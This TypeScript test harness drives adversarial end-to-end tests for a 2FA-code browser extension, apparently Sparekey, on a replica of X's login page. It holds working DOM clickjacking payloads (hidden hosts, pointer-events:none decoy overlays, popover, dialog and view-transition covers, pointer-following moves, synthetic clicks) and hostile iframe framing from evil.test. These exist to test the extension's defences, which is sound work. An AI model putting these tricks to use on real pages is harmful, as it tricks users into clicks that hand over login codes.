// What an attacker serves, for the adversarial e2e files. The worst case is script on the real
// origin (an XSS on x.com, a compromised third-party script): these pages are served AT
// https://x.com/i/flow/login (the only path where the content script offers codes), either as the
// X replica's login with attacker script injected (?attack=<name>) or as attacker-made pages
// (?frames=<kind>, ?fixture=<name>) around snapshots of X's DOM from test/fixtures/x.
import { readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import path from 'node:path';
import { REPO_ROOT } from './harness/config';
import type { RequestHandler } from './harness/server';

/** The DOM-based extension clickjacking attacks (issue 7, item 1), by name. */
export const ATTACKS = {
  'a-opacity': 'sets opacity:0 on our host (and keeps setting it back)',
  'a-filter': 'sets filter:opacity(0) on our host',
  'a-mask': 'masks our host out with a transparent mask-image (masks do not stop clicks)',
  'a-clip': 'clips our host to its right edge with clip-path, hiding what the button says',
  'a-visibility': 'sets visibility:hidden on our host',
  'b-html': 'sets opacity:0.001 on <html> with a decoy picture behind',
  'b-body': 'sets opacity:0 on <body> with a decoy picture on <html>',
  'c-overlay': 'takes our host out of the top layer and covers it with a pointer-events:none decoy',
  'c-overlay-attr': 'removes our popover attribute and covers our host with a pointer-events:none decoy',
  'd-popover': 'opens a pointer-events:none popover decoy above ours (and re-opens it whenever ours moves up)',
  'd-popover-shadow': 'the same decoy popover, hidden in the page\'s own closed shadow root',
  'd-dialog': 'opens a modal <dialog> decoy (pointer-events:none) above ours',
  'd-popover-backdrop': 'opens a 0×0 popover after ours whose ::backdrop paints a decoy over the page (pointer-events:none)',
  'd-popover-fixed': 'opens a 0×0 popover after ours whose position:fixed child is a decoy over the page (pointer-events:none)',
  'd-view-transition':
    'keeps a view transition running, its snapshot frozen over the page, with pointer-events:none on its pseudo-elements so clicks reach the page beneath',
  'e-host-move': 'moves our host under the pointer on every mouse move',
  'e-field-move': 'moves X\'s code field so that our own placement puts the chip under the resting pointer',
  'f-synthetic': 'clicks our host with el.click(), MouseEvent, PointerEvent and keyboard events',
} as const;
export type AttackName = keyof typeof ATTACKS;

/**
 * Attacks the extension defuses rather than refuses: what the attacker wants drawn is never drawn,
 * so a person's click on the chip is an informed one and fills.
 */
export const DEFUSED = {
  'c-host-backdrop':
    'styles our host\'s ::backdrop from a page stylesheet (by its tag, [popover] and *, !important, in a layer too) as a decoy over the page, blurred',
} as const;
export type DefusedName = keyof typeof DEFUSED;

/** The decoy picture's green (#16a34a), to find it in a screenshot. */
export const DECOY_GREEN = [0x16, 0xa3, 0x4a] as const;

export interface AttackState {
  name: string;
  /** How many times the trick was (re)applied. */
  applied: number;
  /** The trick is set up (for the e-* attacks: the bait is on the page). */
  ready: boolean;
  stopped: boolean;
  /** Where the decoy a person is lured to click sits (viewport px), once the trick is in place. */
  decoy?: { x: number; y: number };
  stop(): void;
}

/**
 * The attacker, in the page's own world. Self-contained: it is sent as source. Finds our host as a
 * child of <html> with a custom-element name (it cannot know the random tag, but it can look) and
 * applies its trick as soon as the host appears, again after every change to it (fighting any
 * revert), and every 25 ms.
 */
export function attackMain(name: string): void {
  type Host = HTMLElement & { showPopover(): void; hidePopover(): void };
  const root = document.documentElement;
  const cleanups: (() => void)[] = [];
  const state: AttackState = {
    name,
    applied: 0,
    ready: false,
    stopped: false,
    stop() {
      state.stopped = true;
      for (const undo of cleanups.splice(0).reverse()) undo();
    },
  };
  (window as unknown as { __attack: AttackState }).__attack = state;
  const hit = () => {
    state.applied++;
    state.ready = true;
  };
  const hosts = () => Array.from(root.children).filter((e) => e.localName.includes('-')) as Host[];
  const isOpen = (el: Element) => el.matches(':popover-open');
  const setImportant = (el: HTMLElement, prop: string, value: string) => {
    if (el.style.getPropertyValue(prop) === value && el.style.getPropertyPriority(prop) === 'important') return;
    el.style.setProperty(prop, value, 'important');
    hit();
  };
  const decoy = (text: string) => {
    const d = document.createElement('div');
    d.textContent = text;
    d.setAttribute(
      'style',
      'position:fixed;inset:0;margin:0;width:100vw;height:100vh;max-width:none;max-height:none;border:0;padding:40px;box-sizing:border-box;' +
        'background:repeating-linear-gradient(45deg,#fde68a 0 20px,#fbbf24 20px 40px);font:32px sans-serif;color:#7c2d12;' +
        'pointer-events:none;z-index:2147483647',
    );
    return d;
  };
  const picture =
    "url(\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='400' height='200'%3E%3Crect width='400' height='200' fill='%2316a34a'/%3E%3Ctext x='20' y='110' font-size='40' fill='white'%3EFree prize%3C/text%3E%3C/svg%3E\")";
  /** Runs fn for our hosts now, on every change to them or to <html>'s children, and every 25 ms. */
  const keep = (fn: (host: Host) => void) => {
    const run = () => {
      if (state.stopped) return;
      for (const h of hosts()) fn(h);
    };
    const watched = new WeakSet<Element>();
    const mo = new MutationObserver(() => {
      for (const h of hosts()) {
        if (!watched.has(h)) {
          watched.add(h);
          mo.observe(h, { attributes: true });
        }
      }
      run();
    });
    mo.observe(root, { childList: true });
    const id = setInterval(run, 25);
    cleanups.push(() => {
      mo.disconnect();
      clearInterval(id);
    });
    run();
  };

  /** Adds a stylesheet to the page (removed when the attacker stops). */
  const sheet = (css: string) => {
    const style = document.createElement('style');
    style.textContent = css;
    document.head.append(style);
    cleanups.push(() => style.remove());
    return style;
  };
  /**
   * Opens the page's popover `cover` and keeps it the last (topmost) one: again whenever another
   * popover (ours, re-shown) toggles.
   */
  const keepOnTop = (cover: Host, holder: Element = cover) => {
    const raise = () => {
      if (state.stopped) return;
      if (isOpen(cover)) cover.hidePopover();
      cover.showPopover();
      hit();
    };
    const onToggle = (e: Event) => {
      if (e.target !== holder) raise();
    };
    document.addEventListener('toggle', onToggle, true);
    keep(() => !isOpen(cover) && raise());
    cleanups.push(() => document.removeEventListener('toggle', onToggle, true));
  };
  /** A popover with no box of its own (0×0, no border, no padding): only what it draws around it. */
  const emptyPopover = () => {
    const p = document.createElement('div') as unknown as Host;
    p.setAttribute('popover', 'manual');
    p.setAttribute(
      'style',
      'width:0;height:0;min-width:0;min-height:0;padding:0;border:0;margin:0;inset:0 auto auto 0;overflow:visible;background:none;pointer-events:none',
    );
    document.body.append(p);
    cleanups.push(() => p.remove());
    return p;
  };

  const restyle = (prop: string, value: string) => () =>
    keep((h) => setImportant(h, prop, value));
  const undoHostStyle = (prop: string) => cleanups.push(() => hosts().forEach((h) => h.style.removeProperty(prop)));

  const attacks: Record<string, () => void> = {
    'a-opacity': () => {
      restyle('opacity', '0')();
      undoHostStyle('opacity');
    },
    'a-filter': () => {
      restyle('filter', 'opacity(0)')();
      undoHostStyle('filter');
    },
    'a-mask': () => {
      restyle('mask-image', 'linear-gradient(transparent, transparent)')();
      undoHostStyle('mask-image');
    },
    'a-clip': () => {
      restyle('clip-path', 'inset(0 0 0 85%)')();
      undoHostStyle('clip-path');
    },
    'a-visibility': () => {
      restyle('visibility', 'hidden')();
      undoHostStyle('visibility');
    },
    'b-html': () => {
      keep(() => {
        if (root.style.opacity !== '0.001') {
          root.style.opacity = '0.001';
          root.style.background = `${picture} center / cover`;
          hit();
        }
      });
      cleanups.push(() => {
        root.style.removeProperty('opacity');
        root.style.removeProperty('background');
      });
    },
    'b-body': () => {
      keep(() => {
        if (document.body.style.opacity !== '0') {
          document.body.style.opacity = '0';
          root.style.background = `${picture} center / cover`;
          hit();
        }
      });
      cleanups.push(() => {
        document.body.style.removeProperty('opacity');
        root.style.removeProperty('background');
      });
    },
    'c-overlay': () => {
      const cover = decoy('Click anywhere to continue');
      keep((h) => {
        if (isOpen(h)) {
          h.hidePopover();
          hit();
        }
        if (root.lastElementChild !== cover) root.append(cover);
      });
      cleanups.push(() => cover.remove());
    },
    'c-overlay-attr': () => {
      const cover = decoy('Click anywhere to continue');
      keep((h) => {
        if (h.hasAttribute('popover')) {
          h.removeAttribute('popover');
          hit();
        }
        if (root.lastElementChild !== cover) root.append(cover);
      });
      cleanups.push(() => cover.remove());
    },
    'd-popover': () => {
      const cover = decoy('Click anywhere to continue') as Host;
      cover.setAttribute('popover', 'manual');
      document.body.append(cover);
      cleanups.push(() => cover.remove());
      // Whenever ours is (re)shown, show the decoy again so it is the last, topmost, entry.
      keepOnTop(cover);
    },
    'd-popover-shadow': () => {
      const holder = document.createElement('div');
      const shadow = holder.attachShadow({ mode: 'closed' });
      const cover = decoy('Click anywhere to continue') as Host;
      cover.setAttribute('popover', 'manual');
      shadow.append(cover);
      document.body.append(holder);
      cleanups.push(() => holder.remove());
      // Seen from the document, the decoy's own toggles (if they get out of the root) target the holder.
      keepOnTop(cover, holder);
    },
    'd-dialog': () => {
      const dialog = document.createElement('dialog');
      dialog.textContent = 'Click anywhere to continue';
      dialog.setAttribute('style', 'pointer-events:none;width:100vw;height:100vh;max-width:none;max-height:none;margin:0;padding:40px;border:0;background:#fde68a;font:32px sans-serif');
      document.body.append(dialog);
      keep(() => {
        if (!dialog.open) {
          dialog.showModal();
          hit();
        }
      });
      cleanups.push(() => {
        dialog.close();
        dialog.remove();
      });
    },
    'd-popover-backdrop': () => {
      const cover = emptyPopover();
      cover.id = 'sk-attack-backdrop';
      // A popover's ::backdrop covers the viewport and, like the popover, takes no pointer events.
      sheet(`#sk-attack-backdrop::backdrop{background:${picture} center / cover;pointer-events:none}`);
      keepOnTop(cover);
    },
    'd-popover-fixed': () => {
      const cover = emptyPopover();
      cover.append(decoy('Click anywhere to continue'));
      keepOnTop(cover);
    },
    'd-view-transition': () => {
      // The old and new snapshots cross-fade over an hour: what the person sees is frozen, while
      // clicks go through the pseudo-elements to the live page (our chip) beneath.
      sheet(
        '::view-transition,::view-transition-group(*),::view-transition-image-pair(*),::view-transition-old(*),::view-transition-new(*)' +
          '{pointer-events:none;animation-duration:3600s!important}',
      );
      type VT = { finished: Promise<void>; skipTransition(): void };
      const doc = document as Document & { startViewTransition?: (update: () => void) => VT; activeViewTransition?: VT | null };
      let current: VT | null = null;
      const start = () => {
        if (state.stopped || current || !doc.startViewTransition) return;
        const t = doc.startViewTransition(() => undefined);
        current = t;
        hit();
        // Skipped by the browser (another transition, a hidden page): start the next one.
        void t.finished.catch(() => undefined).finally(() => {
          if (current === t) current = null;
          setTimeout(start, 0);
        });
      };
      keep(() => start());
      cleanups.push(() => current?.skipTransition());
    },
    'c-host-backdrop': () => {
      // The page can read our random tag, and `*::backdrop` / `[popover]::backdrop` need none.
      const style = sheet('');
      keep((h) => {
        const decoyRule =
          `display:block!important;background:${picture} center / cover!important;backdrop-filter:blur(3px)!important;` +
          'opacity:1!important;pointer-events:none!important';
        const css = `${h.localName}::backdrop,[popover]::backdrop,*::backdrop{${decoyRule}} @layer sk{*::backdrop{${decoyRule}}}`;
        if (style.textContent !== css) {
          style.textContent = css;
          hit();
        }
      });
    },
    'e-host-move': () => {
      // A decoy button far from the chip; our chip is dragged under the pointer wherever it goes.
      const bait = document.createElement('button');
      bait.textContent = 'Continue';
      bait.setAttribute('style', 'position:fixed;left:80px;top:80px;width:160px;height:48px;z-index:2147483646');
      root.append(bait);
      state.decoy = { x: 160, y: 104 };
      state.ready = true;
      let at: { x: number; y: number } | null = null;
      const follow = () =>
        keep((h) => {
          if (!at) return;
          const r = h.getBoundingClientRect();
          const left = `${Math.round(at.x - r.width + 30)}px`;
          const top = `${Math.round(at.y - r.height / 2)}px`;
          if (h.style.left !== left || h.style.top !== top) {
            h.style.setProperty('left', left, 'important');
            h.style.setProperty('top', top, 'important');
            hit();
          }
        });
      const onMove = (e: MouseEvent) => {
        at = { x: e.clientX, y: e.clientY };
        for (const h of hosts()) {
          const r = h.getBoundingClientRect();
          h.style.setProperty('left', `${Math.round(at.x - r.width + 30)}px`, 'important');
          h.style.setProperty('top', `${Math.round(at.y - r.height / 2)}px`, 'important');
          hit();
        }
      };
      window.addEventListener('mousemove', onMove, true);
      window.addEventListener('pointerdown', onMove, true);
      follow();
      cleanups.push(() => {
        window.removeEventListener('mousemove', onMove, true);
        window.removeEventListener('pointerdown', onMove, true);
        bait.remove();
      });
    },
    'e-field-move': () => {
      // The person clicks the bait; the page then moves X's field so that Sparekey itself places
      // the chip right under the resting pointer, and waits for the second click.
      const bait = document.createElement('button');
      bait.textContent = 'Claim your prize';
      bait.setAttribute('style', 'position:fixed;left:500px;bottom:40px;width:200px;height:48px;z-index:2147483646');
      root.append(bait);
      const poke = document.createElement('div');
      document.body.append(poke);
      const r0 = bait.getBoundingClientRect();
      const target = { x: r0.left + r0.width / 2, y: r0.top + r0.height / 2 };
      state.decoy = target;
      state.ready = true;
      let field: HTMLElement | null = null;
      const onClick = () => {
        bait.style.visibility = 'hidden';
        const input = document.querySelector('[data-testid="ocfEnterTextTextInput"]');
        const h = hosts()[0];
        if (!input || !h || state.stopped) return;
        // Sparekey places the chip at a fixed spot of X's field: shift the field by what the chip
        // must travel to sit under the pointer (the button's right part at the bait's centre).
        field = input.closest('label') ?? (input as HTMLElement);
        const hr = h.getBoundingClientRect();
        field.style.transform = `translate(${target.x - (hr.left + hr.width - 40)}px, ${target.y - (hr.top + hr.height / 2)}px)`;
        field.style.position = 'relative';
        field.style.zIndex = '2147483645';
        hit();
        // Sparekey re-places its chip when X's DOM changes: keep giving it changes it listens to.
        const id = setInterval(() => poke.setAttribute('aria-hidden', String(poke.getAttribute('aria-hidden') !== 'true')), 50);
        cleanups.push(() => clearInterval(id));
      };
      bait.addEventListener('click', onClick);
      cleanups.push(() => {
        bait.remove();
        if (field) {
          field.style.transform = '';
          field.style.position = '';
          field.style.zIndex = '';
        }
        poke.setAttribute('aria-hidden', 'false');
      });
    },
    'f-synthetic': () => {
      const fire = () => {
        for (const h of hosts()) {
          const r = h.getBoundingClientRect();
          if (r.width === 0) continue;
          const at = { clientX: r.right - 40, clientY: r.top + r.height / 2, bubbles: true, composed: true, cancelable: true };
          h.click();
          h.dispatchEvent(new PointerEvent('pointerdown', { ...at, pointerType: 'mouse', isPrimary: true }));
          h.dispatchEvent(new MouseEvent('mousedown', { ...at, detail: 1 }));
          h.dispatchEvent(new PointerEvent('pointerup', { ...at, pointerType: 'mouse', isPrimary: true }));
          h.dispatchEvent(new MouseEvent('mouseup', { ...at, detail: 1 }));
          h.dispatchEvent(new MouseEvent('click', { ...at, detail: 1 }));
          h.dispatchEvent(new PointerEvent('click', { ...at, detail: 1, pointerType: 'mouse' }));
          (document.elementFromPoint(at.clientX, at.clientY) as HTMLElement | null)?.click();
          h.focus();
          for (const key of ['Enter', ' ']) {
            h.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
            h.dispatchEvent(new KeyboardEvent('keyup', { key, bubbles: true, composed: true }));
          }
          hit();
        }
      };
      const id = setInterval(() => !state.stopped && fire(), 100);
      cleanups.push(() => clearInterval(id));
    },
  };
  const attack = attacks[name];
  if (!attack) throw new Error(`no attack ${name}`);
  attack();
}

// ---- pages around snapshots of X's DOM -------------------------------------------------------------

const FIXTURES = path.join(REPO_ROOT, 'test', 'fixtures', 'x');

/**
 * The replica writes its atomic CSS at run time, so a snapshot without its scripts is unstyled:
 * just enough layout that the dialog and its code field sit in view, as on X.
 */
const FIXTURE_CSS =
  'svg{width:32px;height:32px}[role=dialog]{position:fixed;top:24px;left:40px;width:600px;padding:16px;' +
  'background:#fff;border:1px solid #ccc;font:15px sans-serif}label{display:block;border:1px solid #999;' +
  'margin:12px 0}input{box-sizing:border-box;width:100%;height:52px;font-size:17px;border:0}';

/** An X page as a static snapshot: the fixture without the replica's scripts, with FIXTURE_CSS. */
export function fixtureHtml(name = 'login-2fa-backup', extraScript = ''): string {
  const html = readFileSync(path.join(FIXTURES, `${name}.html`), 'utf8')
    .replace(/<script[\s\S]*?<\/script>/gi, '')
    .replace('</head>', `<style>${FIXTURE_CSS}</style></head>`);
  return extraScript ? html.replace('</body>', `<script>${extraScript}</script></body>`) : html;
}

/**
 * Runs in a frame: answers the parent's "report" with what Sparekey did in this document that the
 * page can see (any host element of ours, the code input's value).
 */
export function frameReporter(): void {
  const report = () => ({
    href: location.href,
    // The document's own origin ('null' when sandboxed), not the URL's.
    origin: String(self.origin),
    hosts: Array.from(document.documentElement.children)
      .filter((e) => e.localName.includes('-'))
      .map((e) => e.localName),
    input: (document.querySelector('[data-testid="ocfEnterTextTextInput"]') as HTMLInputElement | null)?.value ?? null,
    // Where the code input sits in this frame's viewport (to right-click it from the top page).
    box: (() => {
      const r = document.querySelector('[data-testid="ocfEnterTextTextInput"]')?.getBoundingClientRect();
      return r ? { x: r.x, y: r.y, width: r.width, height: r.height } : null;
    })(),
  });
  window.addEventListener('message', (e) => {
    if (e.data === 'sparekey-test:report') (e.source as Window | null)?.postMessage({ sparekeyTest: report() }, '*');
  });
}

export const FRAME_KINDS = {
  cross: 'X\'s 2FA step in a cross-origin iframe (https://evil.test) on an x.com page',
  'same-origin': 'X\'s 2FA step in a same-origin iframe on an x.com page',
  sandboxed: 'X\'s 2FA step in a sandboxed iframe (sandbox="allow-scripts allow-forms", opaque origin) on an x.com page',
  srcdoc: 'X\'s 2FA step in a srcdoc iframe on an x.com page',
  'about-blank': 'X\'s 2FA step written into an about:blank iframe on an x.com page',
} as const;
export type FrameKind = keyof typeof FRAME_KINDS;

const reporterJs = `(${frameReporter.toString()})();`;

/** The top page for one kind of frame attack, served at https://x.com/i/flow/login?frames=<kind>. */
function framesPage(kind: FrameKind): string {
  const inner = fixtureHtml('login-2fa-backup', reporterJs);
  const frameStyle = 'style="width:900px;height:700px;border:1px solid #999"';
  const srcFor = (host: string) => `https://${host}/i/flow/login?fixture=login-2fa-backup&reporter=1`;
  let frame: string;
  let script = '';
  switch (kind) {
    case 'cross':
      frame = `<iframe id="f" ${frameStyle} src="${srcFor('evil.test')}"></iframe>`;
      break;
    case 'same-origin':
      frame = `<iframe id="f" ${frameStyle} src="${srcFor('x.com')}"></iframe>`;
      break;
    case 'sandboxed':
      frame = `<iframe id="f" ${frameStyle} sandbox="allow-scripts allow-forms" src="${srcFor('x.com')}"></iframe>`;
      break;
    case 'srcdoc':
      frame = `<iframe id="f" ${frameStyle} srcdoc="${inner.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`;
      break;
    case 'about-blank':
      frame = `<iframe id="f" ${frameStyle}></iframe>`;
      script = `<script>
        const d = document.getElementById('f').contentDocument;
        d.open(); d.write(${JSON.stringify(inner).replace(/</g, '\\u003c')}); d.close();
      </script>`;
      break;
  }
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>X</title></head>
<body><h1>Log in to X</h1>${frame}${script}</body></html>`;
}

function sendHtml(res: ServerResponse, html: string, headers: Record<string, string> = {}): void {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store', ...headers });
  res.end(html);
}

/**
 * Wraps the replica's handler: ?attack=<name> on the login page injects the attacker's script,
 * ?frames=<kind> serves a page framing X's DOM, ?fixture=<name> serves a static snapshot of an X
 * page (&sandbox=1: with a CSP sandbox, so its origin is opaque although its URL is x.com).
 */
export function adversarialHandler(base: RequestHandler): RequestHandler {
  return (req: IncomingMessage, res: ServerResponse) => {
    const url = new URL(req.url ?? '/', 'https://x.com');
    if (url.pathname === '/__attack.js') {
      const name = url.searchParams.get('name') ?? '';
      res.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-store' });
      res.end(`(${attackMain.toString()})(${JSON.stringify(name)});`);
      return;
    }
    if (url.pathname === '/i/flow/login') {
      const frames = url.searchParams.get('frames');
      if (frames && frames in FRAME_KINDS) return sendHtml(res, framesPage(frames as FrameKind));
      const fixture = url.searchParams.get('fixture');
      if (fixture && /^[a-z0-9.-]+$/.test(fixture)) {
        const html = fixtureHtml(fixture, url.searchParams.has('reporter') ? reporterJs : '');
        return sendHtml(res, html, url.searchParams.has('sandbox') ? { 'content-security-policy': 'sandbox allow-scripts' } : {});
      }
      const attack = url.searchParams.get('attack');
      if (attack && (attack in ATTACKS || attack in DEFUSED)) {
        // The replica answers with writeHead + end(body): put the attacker's script into that body.
        const end = res.end.bind(res) as (chunk?: unknown) => ServerResponse;
        (res as unknown as { end: (chunk?: unknown) => ServerResponse }).end = (chunk?: unknown) => {
          const text = typeof chunk === 'string' ? chunk : Buffer.isBuffer(chunk) ? chunk.toString('utf8') : undefined;
          if (text === undefined || !text.includes('</body>')) return end(chunk);
          return end(text.replace('</body>', `<script src="/__attack.js?name=${attack}"></script></body>`));
        };
      }
    }
    base(req, res);
  };
}
